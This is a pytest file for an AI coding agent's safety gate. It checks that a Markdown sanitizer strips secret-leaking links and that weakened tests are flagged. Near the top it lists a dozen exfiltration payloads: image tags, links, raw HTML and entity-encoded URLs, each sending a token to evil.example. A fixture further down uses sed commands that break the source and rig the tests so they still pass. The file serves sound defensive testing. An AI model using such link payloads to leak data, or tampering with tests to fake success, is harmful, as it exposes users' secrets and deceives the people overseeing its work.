"""Ways out with words and tests (A-42, A-55, A-66), beside `test_work_tree` and `test_text_that_leaves`."""

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.gate.clean_text import clean_markdown
from tests.session.conftest import Cli
from tests.support.attacks import AttackResult, fix_with
from tests.support.repositories import make_repository

SECRET = "aHVudGVyMg"
FORMS = (
    f"![a](https://evil.example/{SECRET}.png)",
    f"![a][r]\n\n[r]: https://evil.example/{SECRET}",
    f"![r]\n\n[r]: <https://evil.example/{SECRET}> 'x'",
    f"[a](https://evil.example/?q={SECRET})",
    f"[a][r]\n\n> [r]:\n> https://evil.example/?q={SECRET}",
    f"[![a](https://evil.example/{SECRET}.png)](https://github.com/o/r?q={SECRET})",
    f"<https://evil.example/?q={SECRET}>",
    f"https://evil.example/?q={SECRET} and www.evil.example/{SECRET}",
    f"<img src='https://evil.example/{SECRET}'>",
    f'<a href="https://evil.example/{SECRET}">a</a>',
    f"![a](&#104;ttps://evil.example/{SECRET}) [a](https&colon;//evil.example/{SECRET})",
    f"[a](//evil.example/{SECRET}) [b](https:\\\\evil.example/{SECRET})",
)


PAGE = MarkdownIt("gfm-like", {"html": True, "linkify": False})


def places(text: str) -> list[str]:
    """Where the page that GitHub makes of `text` would go, by itself or at a click: bare addresses are links, too."""
    page = PAGE.render(text)
    bare = re.sub(r"<pre>.*?</pre>|<code>.*?</code>|<[^>]*>", " ", page, flags=re.DOTALL)
    addresses = re.findall(r"<[A-Za-z][^<>]*\s(?:src|href)\s*=\s*[\"']?([^\"'\s>]*)", page)
    addresses += re.findall(r"(?:https?://|www\.)\S+", bare)
    return [unescape(place) for place in addresses]


@pytest.mark.parametrize("form", FORMS)
def test_a42_no_form_of_an_address_carries_anything_away(form: str):
    assert any("evil.example" in place for place in places(form)) or "\\\\" in form, (
        "the attack works unguarded"
    )
    remaining = places(clean_markdown(form, 10_000))
    assert not [place for place in remaining if "evil" in place or SECRET in place]


@given(
    st.lists(
        st.sampled_from([*FORMS, "`", "```\n", "\n\n", "> ", "- ", "[", "](", "\\", "*", " "]), max_size=8
    )
)
def test_a42_nor_does_any_mixture_of_forms(parts: list[str]):
    remaining = places(clean_markdown("".join(parts), 10_000))
    # A bare address goes on to the next blank, on a page: what matters is whose it is.
    assert not [
        place for place in remaining if not re.match(r"https?://github\.com[/)]", place, re.IGNORECASE)
    ]


FILES = {
    ".github/agent.yml": "version: 1\nchecks: [python3 -m unittest discover -s tests]\n",
    "app.py": "def f():\n    return 2\n",
    "tests/test_weakened.py": "def test_a():\n    assert 1\n\ndef test_b():\n    assert f() == 2\n",
    "tests/test_looks.py": (
        "import unittest, app\n\nclass T(unittest.TestCase):\n    def test_a(self):\n"
        "        self.assertEqual(app.f(), 2)\n    def test_b(self):\n        assert app.f() == 2\n"
    ),
}
LOOKS = "test_looks.T.test_a", "test_looks.T.test_b"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> AttackResult:
    """A run that breaks the source and changes every test so that it still passes."""
    folder = tmp_path_factory.mktemp("tests")
    cli = Cli(folder / "home")
    cli.home.mkdir()
    weaken = "sed -i '5s/assert f() == 2/f()/; 1i import pytest\\n@pytest.mark.skip' tests/test_weakened.py"
    keep_looks = "sed -i '5s/2)/app.f())/; 7s/$/ or True/' tests/test_looks.py"
    repo = make_repository(folder / "app", FILES)
    commands = f"sed -i 's/2/3/' app.py; {weaken}; {keep_looks}"
    attacked = fix_with(cli.home, repo, [commands], cli.environment(), cold=False)
    assert attacked.files == {"app.py", "tests/test_weakened.py", "tests/test_looks.py"}
    return attacked


@pytest.mark.bubblewrap
def test_a55_a_weakened_test_is_named_with_its_lines(attacked: AttackResult):
    reasons = {file["path"]: file["sensitive"] for file in attacked.outcome["files"]}
    assert reasons["tests/test_weakened.py"] == (
        "removes 1 assertion (line 5 before), skips a test (line 2), has 1 test without an assertion (line 6)"
    )


@pytest.mark.bubblewrap
def test_a66_a_test_that_only_looks_as_before_is_named(attacked: AttackResult):
    [check] = attacked.outcome["checks"]
    assert (check["before"]["state"], check["after"]["state"]) == ("passed", "passed")
    assert check["as_they_were"]["run"]["state"] == "failed"
    assert tuple(check["as_they_were"]["expectation_changed"]) == LOOKS
    shown = "with the tests as they were 0 pass, expectation changed in 2"
    page = unescape((attacked.bundle / "report.html").read_text())
    for text in (page, attacked.result.output):
        assert shown in text
        assert all(name in text for name in LOOKS)
    assert attacked.result.output.startswith("! 3 files changed"), "the mark of doubt"
